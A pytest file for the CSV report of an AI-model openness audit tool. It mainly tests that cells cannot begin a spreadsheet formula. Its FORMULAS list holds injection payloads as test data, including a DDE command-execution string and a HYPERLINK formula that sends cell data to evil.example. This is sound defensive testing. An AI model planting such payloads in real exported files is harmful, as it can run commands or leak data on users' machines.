"""The table for spreadsheets: as approved, a cell for each column, and no formula in it whatever a repo holds."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from approved import NAMES, audit_of, evil_audit, results_of, same_as_golden
from hypothesis import given
from hypothesis import strategies as st

import openness
from openness.components import Component
from openness.document import Audit
from openness.reports import Failure, Results
from openness.reports.csv import report
from openness.reports.wording import harmless

GEMMA, OLMO = "google/gemma-2-9b", "allenai/OLMo-2-1124-7B"
FAILED = Failure("bad//x", "is no name", "Write it right.", 2)
FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]|[\t\r]")
"""What no cell may begin with; with an apostrophe before it, it is text."""


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_the_recorded_models_are_as_approved(recordings: Path) -> None:
    audits = [audit_of(recordings, model) for model in NAMES]
    text = report(results_of(*audits, FAILED)).replace("\r\n", "\n")
    same_as_golden("audits.csv", re.sub(r"sha256:[0-9a-f]{64}", "sha256:...", text))


def test_each_row_is_what_its_audit_says(recordings: Path) -> None:
    audits = [openness.audit(model, hub=str(recordings), rubrics=["mof"]) for model in (OLMO, GEMMA)]
    rows = rows_of(report(results_of(*audits, rubrics=("openness", "mof"))))
    for audit, row in zip(audits, rows, strict=True):
        weights, mof = audit.components["weights"], audit.scorecards["mof"]
        assert weights.license is not None
        assert (row["input"], row["revision"], row["verdict"]) == (audit.input, audit.revision or "", audit.verdict)
        assert (float(row["score"]), float(row["score_upper"])) == (audit.score, audit.score_upper)
        assert (row["license_id"], row["license_class"]) == (weights.license.id, weights.license.license_class)
        assert (row["mof.level"], float(row["mof.score"]), float(row["mof.max"])) == (mof.level, mof.score, mof.max)
        assert row["evidence_digest"] == audit.evidence_digest
        assert row["error"] == ""
        for name, state in audit.components.items():
            assert row[name].partition(":")[0] in (state.availability, "not-used")


def test_states_are_words_for_programs_and_unknowns_never_merge(recordings: Path) -> None:
    audit = audit_of(recordings, GEMMA)
    state = audit.components["paper"]
    states = {
        reason: state.model_copy(update={"availability": "unknown", "reason": reason, "facts": {}})
        for reason in ("not-found", "not-looked", "unreadable", "conflicting")
    }
    for reason, one in states.items():
        row = rows_of(report(results_of(audit.model_copy(update={"components": {"paper": one}}))))[0]
        assert row["paper"] == f"unknown:{reason}"
        assert row["weights"] == ""  # the audit has none
        assert row["license_id"] == ""
    row = rows_of(report(results_of(audit)))[0]
    assert (row["weights"], row["posttraining-data"], row["architecture"]) == ("gated:manual", "not-used", "gated")


def test_the_columns_are_the_same_whatever_was_audited(recordings: Path) -> None:
    both = ("openness", "mof")
    heads = {
        report(results_of(*some, rubrics=both)).splitlines()[0]
        for some in ([audit_of(recordings, OLMO)], [FAILED], [audit_of(recordings, GEMMA), FAILED])
    }
    assert len(heads) == 1
    columns = heads.pop().split(",")
    assert len(columns) == len(set(columns))
    assert set(Component) <= set(columns)
    assert columns[:3] == ["input", "subject", "revision"]
    assert columns[-8:-3] == ["mof.level", "mof.level_upper", "mof.score", "mof.score_upper", "mof.max"]
    assert columns[-1] == "error"


def test_a_failure_has_its_row() -> None:
    row = rows_of(report(Results([FAILED], False, {})))[0]
    assert {name: value for name, value in row.items() if value} == {"input": "bad//x", "error": "is no name"}


def test_it_is_as_the_standard_has_it(recordings: Path) -> None:
    text = report(results_of(audit_of(recordings, OLMO), FAILED))
    assert text.count("\r\n") == text.count("\n") == 3
    assert text.endswith("\r\n")
    assert not text.startswith("\ufeff")
    assert '"fully-open, 100 of 100"' in text


def test_numbers_are_numbers(recordings: Path) -> None:
    audit = openness.audit(GEMMA, hub=str(recordings), rubrics=["osai-index"])
    card = audit.scorecards["osai-index"]
    row = rows_of(report(results_of(audit, rubrics=("openness", "osai-index"))))[0]
    assert row["score"] == "31"
    assert float(row["osai-index.score"]) == pytest.approx(card.score, abs=1e-9)
    assert row["conflicts"] == "0"


FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \t @x", '"=1', "'=1", "\"'\" =1", "＝1", "＋1", "－1",
    "＠x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1)', '";=1', ";=1", "a;=1", 'a","=1', "a\t=1", "a,=1",
    'a"\r\n=1,b', "a|=1", "\u00a0=1", "\u2003=1", "a; \"' @x",
)  # fmt: skip


@pytest.mark.parametrize("evil", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_begins_a_formula_however_the_cells_are_parted(recordings: Path, evil: str, delimiter: str) -> None:
    data = evil_audit(recordings, evil).model_dump(by_alias=True)
    data |= {"input": evil, "subject": evil, "revision": evil, "headline": evil, "next_verdict": evil}
    text = report(results_of(Audit.model_validate(data), Failure(evil, evil, evil, 3)))
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]
    assert [cell for cell in cells if FORMULA.match(cell)] == []
    rows = rows_of(text)
    assert len(rows) == 2
    assert all(None not in row and None not in row.values() for row in rows)  # no cell too many, none missing
    assert rows[0]["subject"].replace("'", "") == harmless(evil).replace("'", "")  # nothing but apostrophes was added


@given(st.text(alphabet=st.characters() | st.sampled_from("=+-@;,|\t\r\n\"' "), max_size=30))
def test_text_stays_in_its_cell(said: str) -> None:
    text = report(Results([Failure(said, "x", "", 2), FAILED], True, {}))
    assert all(char.isprintable() or char in "\r\n" for char in text)
    assert not any(FORMULA.match(cell) for cell in text.split(","))
    rows = rows_of(text)
    assert [row["error"] for row in rows] == ["x", "is no name"]
    assert not FORMULA.match(rows[0]["input"])


def test_controls_are_shown_and_cells_bounded() -> None:
    row = rows_of(report(Results([Failure("a\x1b[31m\u202eb\x00", "x" * 5000, "", 2)], False, {})))[0]
    assert row["input"] == r"a\x1b[31m\u202eb\x00"
    assert row["error"] == "x" * 1000 + "..."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("=1", "'=1"),
        (" =1", " '=1"),
        ("\t=1", " '=1"),
        ("'=1", "''=1"),
        ('"=1', "\"'=1"),
        ("a;=1", "a;'=1"),
        ("＝1", "'＝1"),
    ],
)
def test_an_apostrophe_stands_where_a_formula_would_begin(said: str, shown: str) -> None:
    assert rows_of(report(Results([Failure(said, "x", "", 2)], False, {})))[0]["input"] == shown


def test_nothing_else_is_changed() -> None:
    for said in ("allenai/OLMo-2-1124-7B", "a - b", "https://x.example/?a=b", "c++, and more", "it's 5@2x", '"quoted"'):
        assert rows_of(report(Results([Failure(said, "x", "", 2)], False, {})))[0]["input"] == said
